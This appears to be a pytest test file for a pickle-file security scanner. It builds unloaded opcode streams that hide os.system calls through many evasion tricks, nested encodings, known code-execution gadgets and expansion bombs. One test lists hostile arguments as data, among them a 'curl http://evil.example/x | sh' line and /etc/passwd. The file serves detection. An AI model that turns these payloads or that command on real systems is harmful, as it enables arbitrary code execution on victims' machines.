"""Ways in which pickles have hidden from scanners, each as a stream of opcodes that is never loaded."""

from __future__ import annotations

import base64
from dataclasses import replace

import pytest

from driftseal.formats.blob import Bytes
from driftseal.limits import DEFAULT_LIMITS
from driftseal.observe import reading
from driftseal.observe.files.base import Property
from driftseal.observe.files.pickle import Pickle
from pickles import (
    BUILD,
    EMPTY_DICT,
    MARK,
    MEMOIZE,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE1,
    blanks,
    blob,
    call,
    fact,
    facts,
    inside,
    name,
    proto,
    seen,
    stack_name,
    text,
)

SYSTEM = [("pickle-dangerous-call", "os.system")]
RUN = text("id") + TUPLE1 + REDUCE


@pytest.mark.parametrize(
    "stream",
    [
        b"cos\nsystem\n(S'id'\ntR.",
        b"(S'id'\nios\nsystem\n.",
        b"(cos\nsystem\nS'id'\no.",
        proto(2) + name("os", "system") + b"U\x02id" + TUPLE1 + REDUCE + STOP,
        proto(2) + name("os", "system") + text("id") + TUPLE1 + b"\x81.",
        proto(4) + stack_name("os", "system") + text("id") + TUPLE1 + EMPTY_DICT + b"\x92.",
        proto(4) + stack_name("os", "system") + RUN + STOP,
    ],
    ids=["REDUCE", "INST", "OBJ", "binary", "NEWOBJ", "NEWOBJ_EX", "STACK_GLOBAL"],
)
def test_a_command_is_seen_whichever_opcode_calls_it(stream: bytes) -> None:
    assert facts(stream) == SYSTEM
    assert fact(stream, "pickle-dangerous-call").evidence.startswith("os.system('id'")


@pytest.mark.parametrize(
    "stream",
    [
        text("os") + b"p5\n0" + text("system") + b"p5\n0" + text("os") + b"p6\n0g6\ng5\n",
        text("system") + MEMOIZE + text("os") + MEMOIZE + b"00h\x01h\x00",
        text("builtins") + b"q\x00" + text("os") + b"q\x000h\x00" + text("x") + b"0" + text("system"),
        text("os") + text("decoy") + b"0" + text("system"),
        text("os") + MARK + text("a") + text("b") + b"1" + text("system"),
        text("os") + b"22" + b"00" + text("system"),
        text("os") + MARK + b"0" + text("system"),
        text("os") + b"Vsyste\\u006d\n",
        text("os") + b"S'\\x73ystem'\n",
        text("os") + b"r\xff\xff\x00\x000" + b"j\xff\xff\x00\x00" + text("system"),
    ],
    ids=["PUT", "MEMOIZE", "overwritten", "POP", "POP_MARK", "DUP", "POP-mark", "UNICODE", "STRING", "LONG_BINGET"],
)
def test_names_are_what_the_stack_holds_and_not_what_was_written_last(stream: bytes) -> None:
    assert facts(proto(4) + stream + STACK_GLOBAL + RUN + STOP)[0] == SYSTEM[0]


def test_a_state_set_on_a_function_is_told_with_what_is_set() -> None:
    stream = (
        proto(4) + name("numpy", "mean") + b"N}" + text("a") + name("os", "system") + SETITEM + b"\x86" + BUILD + STOP
    )
    found = fact(stream, "pickle-changes-global")
    assert (found.subject, found.evidence) == ("numpy.mean", "BUILD (None, {'a': os.system})")


@pytest.mark.parametrize(
    ("module", "attribute", "fact_name"),
    [
        ("torch", "os.system", "pickle-dangerous-call"),
        ("collections", "abc.sys.modules", "pickle-dangerous-call"),
        ("random", "_os.system", "pickle-dangerous-call"),
        ("numpy", "__builtins__", "pickle-dunder-path"),
        ("collections", "OrderedDict.__class__.__subclasses__", "pickle-dunder-path"),
        ("sklearn", "base.helper", "pickle-dotted-path"),
    ],
)
def test_a_name_that_goes_through_others_is_told(module: str, attribute: str, fact_name: str) -> None:
    stream = proto(4) + stack_name(module, attribute) + RUN + STOP
    assert (fact_name, f"{module}.{attribute}") in facts(stream)


def test_imports_by_number_are_told() -> None:
    for opcode in (b"\x82\x07", b"\x83\x07\x00", b"\x84\x07\x00\x00\x00"):
        assert ("pickle-extension-code", "7") in facts(proto(2) + opcode + RUN + STOP)


@pytest.mark.parametrize(
    ("tail", "why"),
    [
        (b"\xff", "unknown opcode 0xff"),
        (b"", "ends without STOP"),
        (b"X\xff\xff\xff\x7f", "ends inside an argument"),
        (b"V no line ends", "ends inside a line"),
        (b"h\xee", "fetches what was never stored"),
        (b"00000", "takes more from the stack than there is, or ends inside an argument"),
    ],
)
def test_what_came_before_an_error_stays(tail: bytes, why: str) -> None:
    stream = proto(2) + call("os", "system", "id") + tail
    assert facts(stream) == [*SYSTEM, ("pickle-broken-with-imports", why)]
    assert blanks(stream) == [
        f"the pickle cannot be followed beyond byte {fact(stream, 'pickle-broken-with-imports').offset}: {why}"
    ]


def test_a_broken_stream_of_harmless_names_is_broken_and_no_more() -> None:
    assert [one for one, _ in facts(proto(2) + call("collections", "OrderedDict"))] == ["pickle-broken"]


@pytest.mark.parametrize("gap", [b"", b"\0" * 700, b"some junk, then "])
def test_a_second_pickle_is_found_behind_the_first(gap: bytes) -> None:
    first = proto(4) + b"K\x01."
    stream = first + gap + proto(4) + call("os", "system", "id") + STOP
    assert SYSTEM[0] in facts(stream)
    assert (("pickle-trailing-data", "") in facts(stream)) == (gap.strip(b"\0") != b"")
    assert fact(stream, "pickle-dangerous-call").offset > len(first + gap)


def test_a_second_pickle_without_magic_is_found_behind_junk() -> None:
    assert SYSTEM[0] in facts(proto(4) + b"K\x01.junk " + b"cos\nsystem\n(S'id'\ntR.")


def test_zeros_behind_a_pickle_are_padding() -> None:
    assert facts(proto(4) + b"K\x01." + b"\0" * 4096) == []


@pytest.mark.parametrize(
    "start",
    [
        b"\x95\xff\xff\xff\xff\x00\x00\x00\x00",
        b"\x95\x00\x00\x00\x00\x00\x00\x00\x00",
        proto(4) + proto(2) + proto(0),
        b"I1_0\n0",
        b"S'\\xff\\xfe'\n0",
        b"X\x02\x00\x00\x00\xff\xfe0",
        b"Sunquoted\n0",
        b"L99999999999999999999999999999999999999L\n0",
        b"Fnot a number\n0",
    ],
    ids=["frame-long", "frame-short", "PROTO", "I1_0", "bytes", "utf-8", "unquoted", "LONG", "FLOAT"],
)
def test_odd_arguments_do_not_end_the_reading(start: bytes) -> None:
    assert SYSTEM[0] in facts(proto(4) + start + call("os", "system", "id") + STOP)


@pytest.mark.parametrize(
    ("module", "attribute"),
    [
        ("torch.utils.collect_env", "run"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper"),
        ("trace", "Trace.runctx"),
        ("lib2to3.pgen2.grammar", "Grammar.loads"),
        ("numpy.f2py.crackfortran", "getlincoef"),
        ("_aix_support", "_read_cmd_output"),
        ("multiprocessing.util", "spawnv_passfds"),
        ("pip", "main"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
        ("uuid", "_get_command_stdout"),
        ("__builtin__", "eval"),
        ("pickle", "loads"),
        ("commands", "getoutput"),
    ],
)
def test_known_gadgets_are_dangerous(module: str, attribute: str) -> None:
    assert facts(proto(2) + call(module, attribute, "x") + STOP)[0] == (
        "pickle-dangerous-call",
        f"{module}.{attribute}",
    )


def test_an_unknown_name_is_told_and_its_arguments_are_looked_at() -> None:
    harmless = proto(2) + call("acme.models", "Thing", "blue") + STOP
    assert facts(harmless) == [("pickle-unknown-import", "acme.models.Thing")]
    for argument in ("curl http://evil.example/x | sh", "10.0.0.1:4444", "/etc/passwd", "__import__('os')"):
        found = fact(
            proto(2) + call("acme.models", "Thing", argument) + STOP, "pickle-unknown-call-suspicious-argument"
        )
        assert found.evidence == f"acme.models.Thing({argument!r})"


@pytest.mark.parametrize(
    "stream",
    [
        call("pkgutil", "resolve_name", "os:system"),
        call("operator", "attrgetter", "system"),
        call("_operator", "methodcaller", "system", "id"),
        call("importlib", "import_module", "os"),
        name("builtins", "getattr") + name("collections", "OrderedDict") + text("__class__") + b"\x86R",
        name("builtins", "getattr") + name("acme", "Thing") + text("run") + b"\x86R",
        name("builtins", "getattr") + name("collections", "OrderedDict") + b"K\x01\x86R",
        name("functools", "partial") + name("acme", "run") + TUPLE1 + REDUCE,
        name("_codecs", "encode") + text("x") + text("zlib") + b"\x86R",
        name("torch._tensor", "_rebuild_from_type_v2") + name("builtins", "getattr") + TUPLE1 + REDUCE,
        name("builtins", "type") + text("X") + b")}\x87R",
    ],
    ids=[
        "resolve",
        "attrgetter",
        "methodcaller",
        "importlib",
        "dunder",
        "unknown",
        "number",
        "partial",
        "codec",
        "given",
        "type",
    ],
)
def test_names_that_fetch_other_names_are_told(stream: bytes) -> None:
    assert "pickle-import-indirection" in [one for one, _ in facts(proto(2) + stream + STOP)]


def test_what_a_call_gives_is_not_called_unseen() -> None:
    getter = name("builtins", "getattr") + name("collections", "OrderedDict") + text("fromkeys") + b"\x86R"
    found = fact(proto(2) + getter + text("ab") + TUPLE1 + REDUCE + STOP, "pickle-computed-call")
    assert found.subject == "builtins.getattr(collections.OrderedDict, 'fromkeys')"


def test_a_pickle_that_imports_a_scanner_is_told() -> None:
    assert ("pickle-imports-scanner", "fickling.hook.remove_hook") in facts(call("fickling.hook", "remove_hook") + STOP)


def test_writing_into_a_module_is_told() -> None:
    stream = name("sys", "modules") + text("torch") + name("os", "system") + SETITEM + STOP
    assert fact(proto(4) + stream, "pickle-changes-global").evidence == "SETITEM ('torch', os.system)"


def test_a_call_whose_result_is_thrown_away_is_told() -> None:
    assert facts(proto(4) + call("os", "system", "id") + b"0N.") == SYSTEM


def test_values_shared_without_end_are_told_in_whatever_order_they_are_filled() -> None:
    nested = b"]" + b"".join(b"p%d\n0](g%d\ng%d\ne" % (number, number, number) for number in range(60))
    late = b"".join(b"]p%d\n0" % number for number in range(60))
    late += b"".join(b"g%d\n(g%d\ng%d\ne0" % (number + 1, number, number) for number in reversed(range(59))) + b"g59\n"
    for stream in (nested, late):
        assert "pickle-expands" in [one for one, _ in facts(proto(2) + stream + STOP)]


def test_values_shared_a_few_times_are_nothing() -> None:
    stream = b"]p0\n(" + b"K\x01" * 30 + b"e0](" + b"g0\n" * 60 + b"e"
    assert facts(proto(2) + stream + STOP) == []


def test_a_payload_behind_a_large_blob_is_found_without_reading_the_blob() -> None:
    class Counting(Bytes):
        read = 0

        def read_at(self, offset: int, count: int) -> bytes:
            data = super().read_at(offset, count)
            self.read += len(data)
            return data

    stream = Counting(proto(4) + blob(b"\x01" * 12_000_000) + b"0" + call("os", "system", "id") + STOP)
    found = reading.read(stream, "model.pkl", DEFAULT_LIMITS)
    assert [one.subject for one in found.facts] == ["os.system"]
    assert stream.read < 3_000_000


INNER = proto(4) + b"\x95" + (30).to_bytes(8, "little") + stack_name("os", "system") + RUN + STOP


@pytest.mark.parametrize(
    "stream",
    [
        blob(INNER),
        blob(INNER + b"\0" * 1000),
        text(base64.b64encode(INNER).decode()),
        blob(base64.b64encode(INNER)),
        text(INNER.hex()),
        text(base64.urlsafe_b64encode(b"cos\nsystem\n(S'id'\ntR.").decode()),
        text("cos\nsystem\n(S'id'\ntR."),
    ],
    ids=["raw", "long", "base64", "base64-bytes", "hex", "protocol-0-base64", "protocol-0"],
)
def test_a_pickle_inside_a_pickle_is_told_and_read(stream: bytes) -> None:
    found = reading.read(Bytes(proto(4) + stream + STOP), "model.pkl", DEFAULT_LIMITS)
    assert [
        (one.name, one.path.startswith("pickle@")) for one in found.facts if one.name != "pickle-trailing-data"
    ] == [
        ("pickle-nested", False),
        ("pickle-dangerous-call", True),
    ]
    assert len(inside(proto(4) + stream + STOP)) == 1


def test_a_name_in_a_persistent_id_is_an_import_like_any() -> None:
    assert facts(proto(4) + name("os", "system") + b"Q.") == [("pickle-dangerous-import", "os.system")]


def test_functions_made_of_bytecode_are_told() -> None:
    stream = proto(4) + call("dill._dill", "_create_function", "x") + STOP
    assert facts(stream) == [("pickle-code", "dill._dill._create_function")]


def test_every_name_is_a_property() -> None:
    stream = proto(4) + call("collections", "OrderedDict") + STOP
    assert Property("imports", ["collections.OrderedDict"]) in seen(stream)


def test_more_opcodes_than_the_budget_leave_the_rest_unread() -> None:
    found = reading.read(Bytes(proto(2) + b"N0" * 200_000 + b"N."), "m.pkl", replace(DEFAULT_LIMITS, file_steps=1000))
    assert [one.why[:40] for one in found.blanks] == ["more work than one file is given (limits"]


def test_a_flood_of_names_does_not_drown_the_dangerous_one() -> None:
    flood = b"".join(name("acme", f"n{number}") + b"0" for number in range(60_000))
    stream = proto(2) + flood + call("os", "system", "id") + STOP
    assert SYSTEM[0] in facts(stream)
    assert blanks(stream) == ["59800 more of pickle-unknown-import are not told (limits.file_facts)"]


def test_a_name_of_other_letters_is_a_name() -> None:
    assert facts("cc\u043ellections\nOrderedDict\n)R.".encode())[0][1] == "c\u043ellections.OrderedDict"


def test_a_string_without_quotes_does_not_hide_what_follows() -> None:
    stream = proto(2) + b"Sabc\n0" + call("os", "system", "id") + STOP
    assert Pickle().claims(stream, Bytes(stream))
    assert SYSTEM[0] in facts(stream)


def test_tuples_doubled_on_the_stack_alone_are_seen_to_expand() -> None:
    stream = proto(2) + b")" + b"2\x86" * 60 + STOP
    assert [one for one, _ in facts(stream)] == ["pickle-expands"]


def test_objects_that_hold_one_another_twice_expand_as_lists_do() -> None:
    made = stack_name("collections", "OrderedDict") + b"\x94"
    level = b"h\0(" + b"h\x01" * 10 + b"t\x85R\x94"
    stream = proto(4) + made + b"K\x01\x94"
    for at in range(1, 13):
        stream += level.replace(b"h\x01", bytes([0x68, at])) + b"0"
    assert "pickle-expands" in [one for one, _ in facts(stream + bytes([0x68, 13]) + STOP)]


def test_a_small_container_that_stands_in_very_many_places_is_no_expansion() -> None:
    stream = proto(4) + b"(K\x01K\x02t\x94](" + b"h\0" * 20_000 + b"e" + STOP
    assert facts(stream) == []


def test_a_word_of_a_vocabulary_that_begins_like_a_pickle_is_none() -> None:
    stream = proto(4) + EMPTY_DICT + text("c__builtin__\neval\n") + b"K\x01" + SETITEM + STOP
    assert inside(stream) == []
